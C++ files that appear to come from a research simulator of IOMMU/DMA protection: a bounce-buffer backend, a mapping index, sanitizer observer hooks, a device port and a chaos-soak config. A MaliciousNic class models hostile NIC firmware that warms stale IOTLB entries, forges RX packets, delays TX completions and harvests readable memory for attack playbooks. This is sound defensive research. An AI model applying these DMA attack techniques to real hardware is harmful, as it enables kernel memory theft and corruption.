    uint64_t syncs_for_cpu = 0;
    uint64_t syncs_for_device = 0;
  };

  Result<Iova> MapInternal(DeviceId device, Kva kva, uint64_t len, DmaDirection dir,
                           std::string_view site, bool persistent);
  Status Copy(Kva dst, Kva src, uint64_t len);
  Kva SlotKva(const Pool& pool, size_t slot) const;
  // Walks the buffer's per-slot chunks: fn(slot_index, slot_offset,
  // buffer_offset, chunk_len).
  template <typename Fn>
  Status ForEachChunk(const Active& active, Fn&& fn) const;
  // Same walk restricted to buffer offsets [from, from+span).
  template <typename Fn>
  Status ForEachChunkRange(const Active& active, uint64_t from, uint64_t span,
                           Fn&& fn) const;
  // Containing-run lookup for the syncs: unlike Unmap's exact first-page
  // key, `iova` may land anywhere inside the run. Returns active.end() on
  // miss; *rel_out is the byte offset of `iova` within the buffer.
  std::map<uint64_t, Active>::iterator FindContaining(Pool& pool, Iova iova,
                                                      uint64_t* rel_out);
  Status CopyIn(Pool& pool, const Active& active);
  Status CopyOut(Pool& pool, const Active& active);
  Status CopyInRange(Pool& pool, const Active& active, uint64_t from, uint64_t span);
  Status CopyOutRange(Pool& pool, const Active& active, uint64_t from, uint64_t span);
  Status Scrub(Pool& pool, const Active& active);
  Status ScrubRange(Pool& pool, const Active& active, uint64_t from, uint64_t span);
  void PublishEvent(telemetry::EventKind kind, DeviceId device, const Active& active,
                    Iova iova, uint64_t len, uint64_t cycles_spent);

  iommu::Iommu& iommu_;
  const mem::KernelLayout& layout_;
  mem::PhysicalMemory& pm_;
  mem::PageAllocator& page_alloc_;
  SimClock& clock_;
  telemetry::Hub* hub_;
  std::map<uint32_t, Pool> pools_;
  uint64_t copies_ = 0;
  uint64_t copy_cycles_ = 0;
  uint64_t syncs_for_cpu_ = 0;
  uint64_t syncs_for_device_ = 0;
};

}  // namespace spv::dma

#endif  // SPV_DMA_BOUNCE_POOL_H_
