// Bounce-buffer DMA backend (Markuze et al. [47]: "true IOMMU protection
// from DMA attacks — when copy is faster than zero copy").
//
// Instead of mapping the caller's buffer (and thereby its whole page), the
// backend keeps a per-device pool of dedicated pages with *static* mappings
// and copies data through them:
//
//   * sub-page vulnerability eliminated — the device sees only dedicated
//     pages that never hold anything but this device's in-flight I/O bytes;
//   * deferred-invalidation window eliminated — the mappings are permanent,
//     so no unmap and no IOTLB invalidation ever happens on the I/O path;
//   * cost — one copy per direction (the paper's trade-off), modelled in
//     simulated cycles.

#ifndef SPV_DMA_BOUNCE_H_
#define SPV_DMA_BOUNCE_H_

#include <cstdint>
#include <map>
#include <vector>

#include "dma/dma_api.h"
#include "mem/page_allocator.h"
#include "mem/phys_memory.h"

namespace spv::dma {

// Simulated copy cost (§8 discussion: copying is cheap relative to a 2000-
// cycle IOTLB invalidation for packet-sized buffers).
inline constexpr uint64_t kCopyCyclesPerCacheLine = 2;

class BounceDma : public DmaApi {
 public:
  BounceDma(iommu::Iommu& iommu, const mem::KernelLayout& layout, mem::PhysicalMemory& pm,
            mem::PageAllocator& page_alloc, SimClock& clock);

  // Pre-maps `pages` dedicated bounce pages for `device` (static mappings).
  Status AttachDevice(DeviceId device, uint64_t pages = 64);

  Result<Iova> MapSingle(DeviceId device, Kva kva, uint64_t len, DmaDirection dir,
                         std::string_view site = "bounce_map") override;
  Status UnmapSingle(DeviceId device, Iova iova, uint64_t len, DmaDirection dir) override;

  uint64_t copies() const { return copies_; }
  uint64_t copy_cycles() const { return copy_cycles_; }

 private:
  struct BouncePage {
    Pfn pfn;
    Iova iova;       // static BIDIRECTIONAL mapping
    bool in_use = false;
  };
  struct ActiveBounce {
    size_t page_index;
    Kva orig_kva;
    uint64_t len;
    DmaDirection dir;
  };
  struct DevicePool {
    std::vector<BouncePage> pages;
    std::map<uint64_t, ActiveBounce> active;  // iova -> bounce
  };

  Status Copy(Kva dst, Kva src, uint64_t len);

  mem::PhysicalMemory& pm_;
  mem::PageAllocator& page_alloc_;
  SimClock& clock_;
  std::map<uint32_t, DevicePool> pools_;
  uint64_t copies_ = 0;
  uint64_t copy_cycles_ = 0;
};

}  // namespace spv::dma

#endif  // SPV_DMA_BOUNCE_H_
