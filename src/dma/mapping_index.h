// Open-addressed index of live DMA mappings, keyed by (device, IOVA page).
//
// Replaces the std::map on the dma_map/dma_unmap hot path: find/insert/erase
// are O(1) — one multiplicative hash, a short linear probe over a flat slot
// array — instead of a pointer-chasing red-black tree descent per call.
// Deletion uses tombstones; the table rehashes when full + dead slots exceed
// the load limit, so probe chains stay short under unmap churn.

#ifndef SPV_DMA_MAPPING_INDEX_H_
#define SPV_DMA_MAPPING_INDEX_H_

#include <cstddef>
#include <cstdint>
#include <utility>
#include <vector>

namespace spv::dma {

template <typename Value>
class MappingIndex {
 public:
  explicit MappingIndex(size_t initial_capacity = 64) {
    capacity_ = NextPow2(initial_capacity < 16 ? 16 : initial_capacity);
    slots_.resize(capacity_);
  }

  size_t size() const { return size_; }

  // Inserts or overwrites (matching the std::map operator[] semantics the
  // slow path keeps).
  void InsertOrAssign(uint32_t device, uint64_t iova_page, Value value) {
    MaybeGrow();
    Slot* tombstone = nullptr;
    size_t index = HashOf(device, iova_page) & (capacity_ - 1);
    for (;;) {
      Slot& slot = slots_[index];
      if (slot.state == State::kEmpty) {
        Slot& target = tombstone != nullptr ? *tombstone : slot;
        if (target.state == State::kTombstone) {
          --tombstones_;
        }
        target.device = device;
        target.iova_page = iova_page;
        target.value = std::move(value);
        target.state = State::kFull;
        ++size_;
        return;
      }
      if (slot.state == State::kFull && slot.device == device &&
          slot.iova_page == iova_page) {
        slot.value = std::move(value);
        return;
      }
      if (slot.state == State::kTombstone && tombstone == nullptr) {
        tombstone = &slot;
      }
      index = (index + 1) & (capacity_ - 1);
    }
  }

  Value* Find(uint32_t device, uint64_t iova_page) {
    Slot* slot = FindSlot(device, iova_page);
    return slot == nullptr ? nullptr : &slot->value;
  }
  const Value* Find(uint32_t device, uint64_t iova_page) const {
    const Slot* slot = const_cast<MappingIndex*>(this)->FindSlot(device, iova_page);
    return slot == nullptr ? nullptr : &slot->value;
  }

  bool Erase(uint32_t device, uint64_t iova_page) {
    Slot* slot = FindSlot(device, iova_page);
    if (slot == nullptr) {
      return false;
    }
    slot->state = State::kTombstone;
    slot->value = Value{};
    --size_;
    ++tombstones_;
    return true;
  }

  // Visits every live entry; ordering is unspecified.
  template <typename Fn>
  void ForEach(Fn&& fn) const {
    for (const Slot& slot : slots_) {
      if (slot.state == State::kFull) {
        fn(slot.value);
      }
    }
  }

 private:
  enum class State : uint8_t { kEmpty, kFull, kTombstone };
  struct Slot {
    uint64_t iova_page = 0;
    uint32_t device = 0;
    State state = State::kEmpty;
    Value value{};
  };

  static size_t NextPow2(size_t n) {
    size_t p = 1;
    while (p < n) {
      p <<= 1;
    }
    return p;
  }

  static size_t HashOf(uint32_t device, uint64_t iova_page) {
    const uint64_t mixed = (iova_page ^ (uint64_t{device} << 32)) * 0x9e3779b97f4a7c15ULL;
    return static_cast<size_t>(mixed >> 17);
  }

  Slot* FindSlot(uint32_t device, uint64_t iova_page) {
    size_t index = HashOf(device, iova_page) & (capacity_ - 1);
    for (;;) {
      Slot& slot = slots_[index];
      if (slot.state == State::kEmpty) {
        return nullptr;
      }
      if (slot.state == State::kFull && slot.device == device &&
          slot.iova_page == iova_page) {
        return &slot;
      }
      index = (index + 1) & (capacity_ - 1);
    }
  }

  void MaybeGrow() {
    // Keep live + dead slots under 70% so probes terminate quickly.
    if ((size_ + tombstones_ + 1) * 10 < capacity_ * 7) {
      return;
    }
    const size_t new_capacity = size_ * 2 >= capacity_ ? capacity_ * 2 : capacity_;
    std::vector<Slot> old = std::move(slots_);
    capacity_ = new_capacity;
    slots_.assign(capacity_, Slot{});
    size_ = 0;
    tombstones_ = 0;
    for (Slot& slot : old) {
      if (slot.state == State::kFull) {
        InsertOrAssign(slot.device, slot.iova_page, std::move(slot.value));
      }
    }
  }

  std::vector<Slot> slots_;
  size_t capacity_ = 0;
  size_t size_ = 0;
  size_t tombstones_ = 0;
};

}  // namespace spv::dma

#endif  // SPV_DMA_MAPPING_INDEX_H_
