// Observer hooks for DMA-map and CPU-access events.
//
// D-KASAN registers one of these to see every dma_map/dma_unmap with its call
// site plus every CPU access to kernel memory — the event stream from which
// its four report classes (§4.2) are derived.
//
// Dispatch rides the telemetry bus: DmaApi publishes kDmaMap / kDmaUnmap /
// kCpuAccess events to its telemetry::Hub, and each registered DmaObserver is
// wrapped in a DmaObserverSink that decodes those events back into the typed
// interface. One fan-out path serves the sanitizer and the trace ring alike.

#ifndef SPV_DMA_OBSERVER_H_
#define SPV_DMA_OBSERVER_H_

#include <cstdint>
#include <string_view>

#include "base/types.h"
#include "iommu/access_rights.h"
#include "telemetry/telemetry.h"

namespace spv::dma {

class DmaObserver {
 public:
  virtual ~DmaObserver() = default;

  virtual void OnMap(DeviceId device, Kva kva, uint64_t len, Iova iova,
                     iommu::AccessRights rights, std::string_view site) = 0;
  virtual void OnUnmap(DeviceId device, Kva kva, uint64_t len) = 0;
  // CPU touching kernel memory (KASAN-style instrumented access).
  virtual void OnCpuAccess(Kva kva, uint64_t len, bool is_write) = 0;
};

// Bridges bus events published by one DmaApi (`origin`) back into the typed
// DmaObserver interface. Events from other components sharing the Hub are
// ignored, preserving the attach-to-one-source semantics.
class DmaObserverSink : public telemetry::EventSink {
 public:
  DmaObserverSink(const void* origin, DmaObserver* observer)
      : origin_(origin), observer_(observer) {}

  DmaObserver* observer() const { return observer_; }

  void OnEvent(const telemetry::Event& event) override {
    if (event.origin != origin_) {
      return;
    }
    switch (event.kind) {
      case telemetry::EventKind::kDmaMap:
        observer_->OnMap(DeviceId{event.device}, Kva{event.addr}, event.len,
                         Iova{event.addr2}, static_cast<iommu::AccessRights>(event.aux),
                         event.site);
        break;
      case telemetry::EventKind::kDmaUnmap:
        observer_->OnUnmap(DeviceId{event.device}, Kva{event.addr}, event.len);
        break;
      case telemetry::EventKind::kCpuAccess:
        observer_->OnCpuAccess(Kva{event.addr}, event.len, event.flag);
        break;
      default:
        break;
    }
  }

 private:
  const void* origin_;
  DmaObserver* observer_;
};

}  // namespace spv::dma

#endif  // SPV_DMA_OBSERVER_H_
