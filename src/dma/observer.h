// Observer hooks for DMA-map and CPU-access events.
//
// D-KASAN registers one of these to see every dma_map/dma_unmap with its call
// site plus every CPU access to kernel memory — the event stream from which
// its four report classes (§4.2) are derived.

#ifndef SPV_DMA_OBSERVER_H_
#define SPV_DMA_OBSERVER_H_

#include <cstdint>
#include <string_view>

#include "base/types.h"
#include "iommu/access_rights.h"

namespace spv::dma {

class DmaObserver {
 public:
  virtual ~DmaObserver() = default;

  virtual void OnMap(DeviceId device, Kva kva, uint64_t len, Iova iova,
                     iommu::AccessRights rights, std::string_view site) = 0;
  virtual void OnUnmap(DeviceId device, Kva kva, uint64_t len) = 0;
  // CPU touching kernel memory (KASAN-style instrumented access).
  virtual void OnCpuAccess(Kva kva, uint64_t len, bool is_write) = 0;
};

}  // namespace spv::dma

#endif  // SPV_DMA_OBSERVER_H_
