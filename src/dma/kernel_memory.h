// CPU-side view of kernel memory.
//
// All simulated-kernel code (network stack, drivers, workloads) reads and
// writes simulated physical memory through this wrapper, addressed by KVA.
// Every access fires the DmaApi observer hook — the analogue of KASAN's
// compile-time instrumentation — which is how D-KASAN sees CPU accesses to
// DMA-mapped pages (access-after-map, §4.2).

#ifndef SPV_DMA_KERNEL_MEMORY_H_
#define SPV_DMA_KERNEL_MEMORY_H_

#include <cstdint>
#include <span>
#include <string>

#include "base/status.h"
#include "base/types.h"
#include "dma/dma_api.h"
#include "mem/kernel_layout.h"
#include "mem/phys_memory.h"

namespace spv::dma {

class KernelMemory {
 public:
  KernelMemory(mem::PhysicalMemory& pm, const mem::KernelLayout& layout, DmaApi& dma)
      : pm_(pm), layout_(layout), dma_(dma) {}

  Result<uint64_t> ReadU64(Kva kva) const;
  Result<uint32_t> ReadU32(Kva kva) const;
  Result<uint16_t> ReadU16(Kva kva) const;
  Result<uint8_t> ReadU8(Kva kva) const;
  Status WriteU64(Kva kva, uint64_t value);
  Status WriteU32(Kva kva, uint32_t value);
  Status WriteU16(Kva kva, uint16_t value);
  Status WriteU8(Kva kva, uint8_t value);

  Status Read(Kva kva, std::span<uint8_t> out) const;
  Status Write(Kva kva, std::span<const uint8_t> data);
  Status Fill(Kva kva, uint64_t len, uint8_t byte);
  Status Copy(Kva dst, Kva src, uint64_t len);

  const mem::KernelLayout& layout() const { return layout_; }

 private:
  Result<PhysAddr> Translate(Kva kva, uint64_t len, bool is_write) const;

  mem::PhysicalMemory& pm_;
  const mem::KernelLayout& layout_;
  DmaApi& dma_;
};

}  // namespace spv::dma

#endif  // SPV_DMA_KERNEL_MEMORY_H_
