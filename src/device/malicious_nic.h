// MaliciousNic: a NIC whose firmware is attacker-controlled.
//
// It behaves like hardware — it receives descriptor postings and moves bytes
// via DMA — but it also records everything it legitimately learns (IOVAs,
// buffer sizes, completion timing control) for the attack playbooks in
// src/attack/. It cannot see anything the IOMMU does not let it see.

#ifndef SPV_DEVICE_MALICIOUS_NIC_H_
#define SPV_DEVICE_MALICIOUS_NIC_H_

#include <cstdint>
#include <deque>
#include <functional>
#include <optional>
#include <span>
#include <vector>

#include "base/status.h"
#include "base/types.h"
#include "device/device_port.h"
#include "net/layouts.h"
#include "net/nic_device_model.h"

namespace spv::device {

class MaliciousNic : public net::NicDeviceModel {
 public:
  explicit MaliciousNic(DevicePort port) : port_(port) {}

  // ---- NicDeviceModel ---------------------------------------------------------

  void OnRxPosted(const net::RxPostedDescriptor& descriptor) override {
    rx_posted_.push_back(descriptor);
    if (warm_iotlb_on_post_) {
      // Touch the buffer's last byte so the IOTLB caches the translation for
      // every page of the mapping — the entry that stays usable after a
      // deferred unmap (§5.2.1). A zero write into a fresh buffer is
      // indistinguishable from normal device behaviour.
      const uint8_t zero = 0;
      (void)port_.Write(descriptor.iova + (descriptor.buf_len - 1),
                        std::span<const uint8_t>(&zero, 1));
    }
  }

  // Keep translations warm for later stale-IOTLB exploitation.
  void set_warm_iotlb_on_post(bool warm) { warm_iotlb_on_post_ = warm; }
  void OnTxPosted(const net::TxPostedDescriptor& descriptor) override {
    tx_posted_.push_back(descriptor);
    // Completion is *not* signalled automatically: the attacker decides when
    // (delaying TX completion keeps the malicious buffer alive, §5.4).
  }
  void OnRxCompleting(uint32_t index) override {
    if (rx_completing_hook_) {
      rx_completing_hook_(index);
    }
  }

  // ---- Device-side primitives ----------------------------------------------------

  DevicePort& port() { return port_; }

  // Serializes a packet header + payload and DMA-writes it into the oldest
  // posted RX descriptor. Returns the descriptor index (the "interrupt").
  Result<uint32_t> InjectRx(const net::PacketHeader& header, std::span<const uint8_t> payload);

  // The same, but into the oldest descriptor posted by a specific RX queue —
  // how a multi-queue device lands an RSS-steered flow on its chosen CPU.
  // Returns the consumed descriptor (queue + index) for the completion call.
  Result<net::RxPostedDescriptor> InjectRxOn(uint32_t queue, const net::PacketHeader& header,
                                             std::span<const uint8_t> payload);

  // The same, but into a *specific* posted descriptor.
  Status WriteWirePacket(Iova iova, const net::PacketHeader& header,
                         std::span<const uint8_t> payload);

  std::deque<net::RxPostedDescriptor>& rx_posted() { return rx_posted_; }
  std::vector<net::TxPostedDescriptor>& tx_posted() { return tx_posted_; }

  // Attack hook run inside the driver's build-then-unmap window (path (i)).
  void set_rx_completing_hook(std::function<void(uint32_t)> hook) {
    rx_completing_hook_ = std::move(hook);
  }

  // Harvests every qword the device can currently READ through its posted TX
  // descriptors (whole pages, thanks to the sub-page vulnerability).
  Result<std::vector<uint64_t>> HarvestReadableQwords();

 private:
  DevicePort port_;
  bool warm_iotlb_on_post_ = false;
  std::deque<net::RxPostedDescriptor> rx_posted_;
  std::vector<net::TxPostedDescriptor> tx_posted_;
  std::function<void(uint32_t)> rx_completing_hook_;
};

}  // namespace spv::device

#endif  // SPV_DEVICE_MALICIOUS_NIC_H_
