#include "device/malicious_nic.h"

#include <cstring>

namespace spv::device {

Status MaliciousNic::WriteWirePacket(Iova iova, const net::PacketHeader& header,
                                     std::span<const uint8_t> payload) {
  std::vector<uint8_t> wire(net::PacketHeader::kSize + payload.size());
  auto put32 = [&](uint64_t at, uint32_t v) { std::memcpy(wire.data() + at, &v, 4); };
  auto put16 = [&](uint64_t at, uint16_t v) { std::memcpy(wire.data() + at, &v, 2); };
  put32(net::PacketHeader::kSrcIp, header.src_ip);
  put32(net::PacketHeader::kDstIp, header.dst_ip);
  put16(net::PacketHeader::kSrcPort, header.src_port);
  put16(net::PacketHeader::kDstPort, header.dst_port);
  wire[net::PacketHeader::kProto] = header.proto;
  wire[net::PacketHeader::kFlags] = header.flags;
  put16(net::PacketHeader::kLen, static_cast<uint16_t>(payload.size()));
  put32(net::PacketHeader::kSeq, header.seq);
  std::copy(payload.begin(), payload.end(), wire.begin() + net::PacketHeader::kSize);
  return port_.Write(iova, wire);
}

Result<uint32_t> MaliciousNic::InjectRx(const net::PacketHeader& header,
                                        std::span<const uint8_t> payload) {
  if (rx_posted_.empty()) {
    return Unavailable("no posted RX descriptors");
  }
  const net::RxPostedDescriptor descriptor = rx_posted_.front();
  rx_posted_.pop_front();
  SPV_RETURN_IF_ERROR(WriteWirePacket(descriptor.iova, header, payload));
  return descriptor.index;
}

Result<net::RxPostedDescriptor> MaliciousNic::InjectRxOn(uint32_t queue,
                                                         const net::PacketHeader& header,
                                                         std::span<const uint8_t> payload) {
  for (auto it = rx_posted_.begin(); it != rx_posted_.end(); ++it) {
    if (it->queue != queue) {
      continue;
    }
    const net::RxPostedDescriptor descriptor = *it;
    rx_posted_.erase(it);
    SPV_RETURN_IF_ERROR(WriteWirePacket(descriptor.iova, header, payload));
    return descriptor;
  }
  return Unavailable("no posted RX descriptors on queue");
}

Result<std::vector<uint64_t>> MaliciousNic::HarvestReadableQwords() {
  std::vector<uint64_t> harvest;
  for (const net::TxPostedDescriptor& descriptor : tx_posted_) {
    Result<std::vector<uint64_t>> page = port_.ReadPageQwords(descriptor.linear_iova);
    if (page.ok()) {
      harvest.insert(harvest.end(), page->begin(), page->end());
    }
    for (const Iova frag_iova : descriptor.frag_iovas) {
      Result<std::vector<uint64_t>> frag_page = port_.ReadPageQwords(frag_iova);
      if (frag_page.ok()) {
        harvest.insert(harvest.end(), frag_page->begin(), frag_page->end());
      }
    }
  }
  return harvest;
}

}  // namespace spv::device
