// DevicePort: the only path a device has into host memory.
//
// Threat-model enforcement (§3.1): a device object holds a DevicePort and
// nothing else. Every access goes through Iommu::DeviceRead/DeviceWrite —
// translated, permission-checked, fault-logged. No PFNs, no KVAs, no host
// pointers. Everything the attack "knows" it must have observed through
// this port or through descriptor notifications.

#ifndef SPV_DEVICE_DEVICE_PORT_H_
#define SPV_DEVICE_DEVICE_PORT_H_

#include <cstdint>
#include <span>
#include <vector>

#include "base/status.h"
#include "base/types.h"
#include "iommu/iommu.h"

namespace spv::device {

class DevicePort {
 public:
  DevicePort(iommu::Iommu& iommu, DeviceId id) : iommu_(iommu), id_(id) {}

  DeviceId id() const { return id_; }

  Status Write(Iova iova, std::span<const uint8_t> data) {
    return iommu_.DeviceWrite(id_, iova, data);
  }
  Status Read(Iova iova, std::span<uint8_t> out) { return iommu_.DeviceRead(id_, iova, out); }

  Status WriteU64(Iova iova, uint64_t value) {
    uint8_t buf[8];
    std::memcpy(buf, &value, 8);
    return Write(iova, buf);
  }

  Result<uint64_t> ReadU64(Iova iova) {
    uint8_t buf[8];
    SPV_RETURN_IF_ERROR(Read(iova, buf));
    uint64_t value;
    std::memcpy(&value, buf, 8);
    return value;
  }

  Result<std::vector<uint8_t>> ReadBlock(Iova iova, uint64_t len) {
    std::vector<uint8_t> out(len);
    SPV_RETURN_IF_ERROR(Read(iova, std::span<uint8_t>(out)));
    return out;
  }

  // Reads the full page containing `iova` as 512 qwords (the scanning
  // primitive behind §2.4's leaked-pointer search).
  Result<std::vector<uint64_t>> ReadPageQwords(Iova iova) {
    Result<std::vector<uint8_t>> bytes = ReadBlock(iova.PageBase(), kPageSize);
    if (!bytes.ok()) {
      return bytes.status();
    }
    std::vector<uint64_t> qwords(kPageSize / 8);
    std::memcpy(qwords.data(), bytes->data(), kPageSize);
    return qwords;
  }

 private:
  iommu::Iommu& iommu_;
  DeviceId id_;
};

}  // namespace spv::device

#endif  // SPV_DEVICE_DEVICE_PORT_H_
