// spv::soak — the deterministic chaos-soak harness.
//
// One seeded run composes every stressor the simulator has — map/unmap
// churn, RX/TX echo traffic, a fault-injection plan, device abuse (wild DMA,
// lost TX completions, watchdog resets) and the paper's compound attacks
// (Poisoned TX, RingFlood) — over millions of simulated cycles, while
// spv::recovery quarantines and re-attaches the offenders. Every epoch ends
// with Machine::CheckInvariants(); the run fails loudly on the first
// violated invariant, leaked mapping or leaked page. The report is a
// deterministic JSON document: same seed + same config = byte-identical
// output, so CI can diff soak results like any other artifact.

#ifndef SPV_SOAK_SOAK_H_
#define SPV_SOAK_SOAK_H_

#include <cstdint>
#include <string>
#include <vector>

#include "base/clock.h"

namespace spv::soak {

struct SoakConfig {
  uint64_t seed = 42;
  // The run ends at the first epoch boundary past this many simulated cycles.
  uint64_t target_cycles = 1'000'000;
  uint64_t max_epochs = 200'000;  // hard stop against runaway configs
  bool recovery_enabled = true;
  bool deferred = true;     // IOMMU invalidation mode (false = strict)
  bool fast_path = true;    // rcache + hash index + walk cache
  bool faults = true;       // arm the fault-injection plan
  bool attacks = true;      // mix Poisoned TX / RingFlood phases in
  // Storage leg: an NvmeDriver over a MaliciousNvme controller, block
  // write/read-verify probes, Poisoned-Completion storms and withheld-
  // transfer replays through whatever stale windows the run leaves open.
  bool storage = true;
  uint32_t storage_probes = 2;     // block IO round-trips attempted per epoch
  uint32_t epoch_packets = 4;      // echo round-trips attempted per epoch
  uint32_t churn_maps = 8;         // map/unmap pairs per epoch
  uint32_t attack_interval = 64;   // epochs between attack phases
  uint32_t abuse_storm_epochs = 8;    // length of an abuse burst
  uint32_t abuse_calm_epochs = 56;    // quiet stretch between bursts
  // How often Machine::CheckInvariants() runs (1 = every epoch). The audit
  // walks every mapping, so sparser checks buy longer soaks per wall-second.
  uint32_t invariant_check_interval = 1;

  // ---- Multi-CPU leg -----------------------------------------------------------
  //
  // num_cpus > 1 turns on the cross-CPU scenarios: a per-CPU churn phase
  // through every CPU's IOVA magazines and flush-queue shard, RSS-steered
  // echo flows across nic0's queues (nic_queues > 1), and the two race
  // probes — a deferred unmap on CPU 0 raced by a stale-IOTLB replay while
  // service sits on CPU 1's queue, and a quarantine racing an in-flight
  // completion on a sibling queue. With threads=false everything runs on
  // one host thread in CPU order: same seed, byte-identical JSON. With
  // threads=true the per-CPU churn phase runs on real host worker threads
  // (ExecMode::kThreads — the TSan soak target; not byte-deterministic).
  uint32_t num_cpus = 1;
  uint32_t nic_queues = 1;    // nic0 RX/TX queue pairs, one per CPU is typical
  bool threads = false;
  uint32_t per_cpu_churn_maps = 4;  // map/unmap pairs per CPU per epoch

  // ---- Trust-policy leg --------------------------------------------------------
  //
  // policy=true arms spv::policy: the resident devices (nic0/nic1/nvme0)
  // enter through a quirks allowlist as kTrusted so their protocols keep
  // zero-copy service, and nic1 — the abused NIC — doubles as the demotion
  // subject: its first quarantine demotes it to bounce-only and every
  // re-promotion drill inside the hysteresis cooldown must be refused.
  //
  // hostile_hotplug=true adds hot-plug storms: every hotplug_interval epochs
  // a burst of never-authorized NICs/NVMe controllers attaches, lands on the
  // untrusted rung, and runs the paper's sub-page probes — a page-wide read
  // hunting a slab neighbour's secret (type (d)) and an off-the-end write at
  // a co-located neighbour (type (a)). Both must die in the bounce pool:
  // secret_leaks and neighbour_corruptions stay zero or the run fails.
  bool policy = false;
  bool hostile_hotplug = false;
  uint32_t hotplug_interval = 17;  // epochs between hostile hot-plug storms
  uint32_t hotplug_devices = 2;    // hostile devices plugged per storm

  // degraded_drill=true demotes the SERVING devices (nic0 and, with storage,
  // nvme0) a third of the way through the run: both drivers must switch to
  // sync'd bounce rings live — commands in flight, no traffic stop — and
  // keep answering probes at reduced speed for the rest of the soak.
  // degraded_floor is the minimum fraction of post-demotion probes that must
  // still succeed (0 disables the assertion); below it the run fails.
  bool degraded_drill = false;
  double degraded_floor = 0.0;

  // ---- Forensics leg -----------------------------------------------------------
  //
  // On by default: the flight recorder is a pure observer (it never advances
  // the sim clock), so recording changes no workload outcome and the JSON
  // stays byte-identical for a given seed. Detector firings during the soak
  // (D-KASAN, SPADE, stale-IOTLB hits, health breaches, quarantines, trust
  // demotions) freeze incident reports; the report JSON embeds the rollup
  // and soak_cli --incident-out dumps the full document.
  bool forensics = true;
};

struct SoakReport {
  bool ok = false;
  std::string failure;  // first invariant violation / leak, empty when ok

  uint64_t seed = 0;
  uint64_t epochs = 0;
  uint64_t sim_cycles = 0;

  // Workload volume.
  uint64_t echo_probes = 0;
  uint64_t echo_ok = 0;
  uint64_t churn_map_ops = 0;
  uint64_t churn_map_failures = 0;  // quarantine refusals + injected faults
  uint64_t abuse_ops = 0;
  uint64_t attack_runs = 0;
  uint64_t attack_successes = 0;
  uint64_t faults_injected = 0;

  // Recovery outcomes.
  uint64_t quarantines = 0;
  uint64_t reattach_attempts = 0;
  uint64_t permanent_detaches = 0;
  uint64_t fenced_accesses = 0;
  uint64_t shed_packets = 0;
  uint64_t invariant_checks = 0;
  // Fraction of echo probes answered: the availability the service kept
  // while its NIC was being quarantined and restored.
  double availability = 0.0;
  // Degraded-phase service (degraded_drill): probes issued after the drill
  // demoted the serving devices, and the fraction answered on sync'd bounce
  // rings. availability_degraded is 1.0 when no degraded phase ran, so the
  // field is present (and byte-identical) in every report.
  uint64_t degraded_probes = 0;
  uint64_t degraded_ok = 0;
  double availability_degraded = 1.0;
  // Quarantine latency (cycles from trigger to fully-revoked) and downtime
  // (cycles from quarantine to re-attach), log2-bucket p50/p99 upper bounds.
  uint64_t quarantine_latency_p50 = 0;
  uint64_t quarantine_latency_p99 = 0;
  uint64_t downtime_p50 = 0;
  uint64_t downtime_p99 = 0;

  // Leak audit at teardown.
  uint64_t leaked_mappings = 0;
  uint64_t leaked_iova_entries = 0;

  // ---- Per-device-class breakdown (nic vs nvme) --------------------------------
  //
  // The top-level availability/quarantine numbers aggregate the whole run;
  // these split the same accounting by device class so a regression on one
  // side cannot hide behind the other in CI diffs.

  struct NicBreakdown {
    uint64_t probes = 0;        // echo round trips attempted
    uint64_t ok = 0;            // echoes that came back
    double availability = 0.0;
    uint64_t quarantines = 0;   // healthy -> quarantined transitions observed
    uint64_t shed_packets = 0;  // TX shed while the egress NIC was fenced
  };

  struct NvmeBreakdown {
    uint64_t probes = 0;        // write + read-back block IO round trips
    uint64_t ok = 0;            // round trips where both commands completed
    double availability = 0.0;
    uint64_t quarantines = 0;   // healthy -> quarantined transitions observed
    uint64_t shed_ios = 0;      // block commands refused or failed cleanly
    uint64_t reads_completed = 0;
    uint64_t writes_completed = 0;
    uint64_t io_errors = 0;           // commands completed with bad status
    uint64_t completion_errors = 0;   // CQEs the driver rejected as implausible
    uint64_t queue_resets = 0;        // watchdog flush + re-create cycles
    uint64_t forged_completions = 0;  // CQEs the hostile firmware invented
    uint64_t replays_landed = 0;      // withheld data phases that hit memory
    uint64_t replays_blocked = 0;     // ... that the IOMMU fenced off
    uint64_t verify_mismatches = 0;   // read-back data != written pattern
  };

  NicBreakdown nic;
  NvmeBreakdown nvme;

  // ---- Cross-CPU leg (num_cpus > 1) --------------------------------------------

  // Stale-IOTLB race: deferred unmap on CPU 0, device replay while service
  // runs CPU 1's queue. `hits` landed through the stale entry (the Fig 6
  // breach), `blocked` were fenced/faulted, `detected` were flagged by the
  // IOMMU's stale-access accounting the moment they landed.
  uint64_t cross_cpu_race_probes = 0;
  uint64_t cross_cpu_stale_hits = 0;
  uint64_t cross_cpu_stale_blocked = 0;
  uint64_t cross_cpu_detected = 0;
  // Quarantine racing an in-flight completion on a sibling queue: the
  // completion must lose cleanly (fenced/empty-slot), never land or leak.
  uint64_t sibling_quarantine_probes = 0;
  uint64_t sibling_completions_fenced = 0;

  struct CpuBreakdown {
    uint64_t cpu = 0;
    uint64_t churn_ops = 0;       // per-CPU churn phase map/unmap pairs
    uint64_t churn_failures = 0;  // injected faults + allocator refusals
    uint64_t rx_packets = 0;      // packets completed on this CPU's nic0 queues
  };
  std::vector<CpuBreakdown> cpus;  // one entry per sim CPU when num_cpus > 1

  // ---- Trust-policy leg (policy=true) ------------------------------------------

  struct PolicyBreakdown {
    uint64_t hotplug_attaches = 0;       // hostile devices plugged in
    uint64_t hotplug_detaches = 0;       // ... and cleanly unplugged again
    uint64_t subpage_read_probes = 0;    // type (d): page-wide exfil reads
    uint64_t subpage_write_probes = 0;   // type (a): off-the-end writes
    uint64_t secret_leaks = 0;           // sentinel seen by a device (must be 0)
    uint64_t neighbour_corruptions = 0;  // neighbour bytes changed (must be 0)
    uint64_t bounce_rx_ok = 0;           // legit in-bounds writes delivered
    uint64_t bounce_maps = 0;            // transfers diverted through the pool
    uint64_t bounce_unmaps = 0;
    uint64_t demotions = 0;              // trust drops applied by Poll()
    uint64_t promotion_attempts = 0;     // re-promotion drills on demoted nic1
    uint64_t promotions_blocked = 0;     // ... refused by the cooldown
    uint64_t hostile_still_untrusted = 0;  // hostiles on kUntrusted at unplug
  };
  PolicyBreakdown policy;
  // PolicyEngine::PostureJson() at teardown — the HSI-style machine posture.
  // Empty when the policy leg is off. Deterministic like the rest.
  std::string posture_json;

  // ---- Forensics leg (forensics=true) ------------------------------------------

  uint64_t incidents_opened = 0;      // reports frozen during the run
  uint64_t incidents_suppressed = 0;  // triggers dropped by cooldown / cap
  uint64_t flight_records = 0;        // FlightRecords accepted across rings
